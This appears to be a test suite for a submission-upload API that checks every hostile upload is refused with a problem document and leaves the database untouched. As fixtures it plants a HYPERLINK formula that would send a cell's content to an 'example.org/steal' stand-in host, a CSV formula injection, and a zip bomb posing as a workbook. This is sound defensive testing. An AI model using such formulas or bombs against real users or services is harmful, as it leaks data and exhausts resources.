/**
 * Hostile uploads through the API, on each database: a draft of KAZ holds a valid T1_1; each hostile request is
 * answered with a clear problem document (status, detail, and for a file the problem naming it) and leaves every
 * stored row as it was (the submission, its tables and findings, the table versions: the whole database).
 */

import { templateXlsx } from "@clearinghouse/domain";
import ExcelJS from "exceljs";
import type { FastifyInstance, LightMyRequestResponse } from "fastify";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { consistentSubmission, keepCategories } from "../../../packages/clearinghouse/test/helpers.ts";
import { makeZip } from "../../../packages/clearinghouse/test/upload/zip-helpers.ts";
import { buildApp } from "../src/app.ts";
import { saveTableVersion } from "../src/tables/repository.ts";
import { databaseDigest } from "./database-digest.ts";
import { BACKENDS, type TestStorage, testStorage } from "./helpers.ts";
import { type Session, signedIn } from "./sessions.ts";
import { csvOf, type FilePart, multipart } from "./submission-files.ts";

/** Small enough to send a body over it cheaply, large enough for a 10 MB line and 500,000 rows. */
const BODY_LIMIT = 24 * 1024 * 1024;
/** Fewer than 500,000 rows of T1_1: the cell limit refuses them while reading. */
const UPLOAD_CELLS = 200_000;
const ALL = consistentSubmission(3, { reporters: ["KAZ", "KGZ"], years: [2019, 2020], partners: ["RUS", "UZB"] });
const kazSlice = keepCategories(keepCategories(ALL.T1_1, "reporter", ["KAZ"]), "year", ["2020"]);
const VALID_CSV = csvOf("T1_1", kazSlice);
const [HEADER = "", FIRST_ROW = ""] = VALID_CSV.split("\n");

describe.each(BACKENDS)("hostile uploads through the API, on %s", (backend) => {
  let t: TestStorage;
  let app: FastifyInstance;
  let kaz: Session;
  let draft: number;

  beforeAll(async () => {
    t = await testStorage(backend, { bodyLimit: BODY_LIMIT, uploadCells: UPLOAD_CELLS });
    await saveTableVersion(t.storage.db, {
      tableId: "T1_1",
      path: [{ code: "migration", label: { en: "Migration", ru: "Миграция" } }],
      dataset: ALL.T1_1,
      sourceName: "test",
    });
    app = await buildApp({ ...t.config, reporters: ["KAZ", "KGZ"] }, t.storage);
    kaz = await signedIn(app, t.storage.db, "focal-point", { countries: ["KAZ"] });
    const res = await kaz.inject(app, { method: "POST", url: "/api/submissions", payload: { reporter: "KAZ" } });
    draft = res.json().id;
    const first = await upload([{ name: "t1_1.csv", content: VALID_CSV }]);
    expect(first.statusCode, first.body).toBe(200);
    expect(first.json().tables).toEqual(["T1_1"]);
  }, 120_000);
  afterAll(async () => {
    await app?.close();
    await t?.dispose();
  });

  function upload(files: readonly FilePart[], lang = "en") {
    const body = multipart(files);
    return kaz.inject(app, {
      method: "POST",
      url: `/api/submissions/${draft}/files?lang=${lang}`,
      payload: body.payload,
      headers: { "content-type": body.contentType },
    });
  }

  /** Sends the request, and checks the refusal is a problem document and that nothing stored changed. */
  async function refused(send: () => Promise<LightMyRequestResponse>, status: number) {
    const before = await databaseDigest(t.storage.db);
    const detailBefore = (await kaz.inject(app, { url: `/api/submissions/${draft}` })).body;
    const res = await send();
    expect(res.statusCode, res.body.slice(0, 400)).toBe(status);
    expect(res.headers["content-type"]).toMatch(/^application\/problem\+json/);
    expect(res.json().detail).toEqual(expect.any(String));
    expect(await databaseDigest(t.storage.db), "a refused upload changed the database").toEqual(before);
    expect((await kaz.inject(app, { url: `/api/submissions/${draft}` })).body).toBe(detailBefore);
    return res.json() as { detail: string; problems?: { code: string; file: string; message: { en: string } }[] };
  }
  const problemCodes = (p: { problems?: { code: string; file: string }[] }) =>
    (p.problems ?? []).map((x) => [x.code, x.file]);

  it("refuses a file in a wrong encoding, saying where", async () => {
    // UTF-8 declared by its byte order mark, then a byte of windows-1251: and a UTF-16 file without its mark.
    const bad = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(`${HEADER}\n`), Buffer.from([0xca, 0xc0])]);
    let p = await refused(() => upload([{ name: "t1_1.csv", content: new Uint8Array(bad) }]), 422);
    expect(problemCodes(p)).toContainEqual(["file.encoding", "t1_1.csv"]);
    expect(p.problems?.[0]?.message.en).toMatch(/line 2/);
    const utf16 = Buffer.from(VALID_CSV, "utf16le");
    p = await refused(() => upload([{ name: "t1_1.csv", content: new Uint8Array(utf16) }], "ru"), 422);
    expect(problemCodes(p)).toContainEqual(["file.encoding", "t1_1.csv"]);
    expect(p.detail).toMatch(/[а-я]/);
  });

  it("refuses a zip bomb posing as a workbook before unpacking it", async () => {
    const bomb = makeZip([
      { name: "[Content_Types].xml", data: new TextEncoder().encode("<Types/>") },
      { name: "xl/worksheets/sheet1.xml", data: new Uint8Array(200 * 1024 * 1024) },
    ]);
    expect(bomb.length).toBeLessThan(1024 * 1024);
    const p = await refused(
      () => upload([{ name: "t1_1.xlsx", content: bomb, type: "application/vnd.ms-excel" }]),
      422,
    );
    expect(problemCodes(p)).toEqual([["file.zip", "t1_1.xlsx"]]);
    expect(p.problems?.[0]?.message.en).toMatch(/zip bomb/);
  });

  it("refuses a 10 MB single line", async () => {
    const line = `${HEADER}\n${"9".repeat(10 * 1024 * 1024)}`;
    const p = await refused(() => upload([{ name: "t1_1.csv", content: line }]), 422);
    expect(problemCodes(p)).toContainEqual(["limit.line", "t1_1.csv"]);
  });

  it("refuses formulas in cells, with the cell's address", async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(
      (await templateXlsx({ reporter: "KAZ", tables: ["T1_1"], years: [2020] })) as unknown as ArrayBuffer,
    );
    const sheet = wb.getWorksheet("T1_1") as ExcelJS.Worksheet;
    sheet.getCell("I9").value = { formula: 'HYPERLINK("http://example.org/steal?"&A1,"x")', result: 0 };
    const xlsx = new Uint8Array(await wb.xlsx.writeBuffer());
    let p = await refused(() => upload([{ name: "t1_1.xlsx", content: xlsx, type: "application/vnd.ms-excel" }]), 422);
    expect(problemCodes(p)).toContainEqual(["value.formula", "t1_1.xlsx"]);
    expect(p.problems?.find((x) => x.code === "value.formula")?.message.en).toContain("I9");
    // In a CSV a formula is text where a figure must be.
    const fields = FIRST_ROW.split(",");
    fields[HEADER.split(",").indexOf("value")] = "=1+2";
    const csv = VALID_CSV.replace(FIRST_ROW, fields.join(","));
    expect(csv).not.toBe(VALID_CSV);
    p = await refused(() => upload([{ name: "t1_1.csv", content: csv }]), 422);
    expect(problemCodes(p)).toContainEqual([expect.stringMatching(/^value\./), "t1_1.csv"]);
  });

  it("refuses 500,000 rows by the cell limit while reading", async () => {
    const rows = `${HEADER}\n${`${FIRST_ROW}\n`.repeat(500_000)}`;
    expect(rows.length).toBeLessThan(BODY_LIMIT);
    const p = await refused(() => upload([{ name: "t1_1.csv", content: rows }]), 422);
    expect(problemCodes(p).map(([code]) => code)).toContainEqual(expect.stringMatching(/^limit\.(cells|rows)$/));
  });

  it("refuses a body over the limit while it streams, a body that is not multipart, and a broken one", async () => {
    const huge = new Uint8Array(BODY_LIMIT + 1024 * 1024).fill(65);
    const p = await refused(() => upload([{ name: "t1_1.csv", content: huge }]), 413);
    expect(p.detail).toMatch(/\d/);
    await refused(
      () =>
        kaz.inject(app, {
          method: "POST",
          url: `/api/submissions/${draft}/files`,
          payload: { file: VALID_CSV },
        }),
      415,
    );
    await refused(
      () =>
        kaz.inject(app, {
          method: "POST",
          url: `/api/submissions/${draft}/files`,
          payload: "--x\r\nnot a part",
          headers: { "content-type": "multipart/form-data; boundary=x" },
        }),
      422,
    );
  });

  it("refuses many parts", async () => {
    const parts = Array.from({ length: 500 }, (_, k) => ({ name: `t1_1-${k}.csv`, content: VALID_CSV }));
    const p = await refused(() => upload(parts), 413);
    expect(p.detail).toMatch(/file|part/i);
  });
});
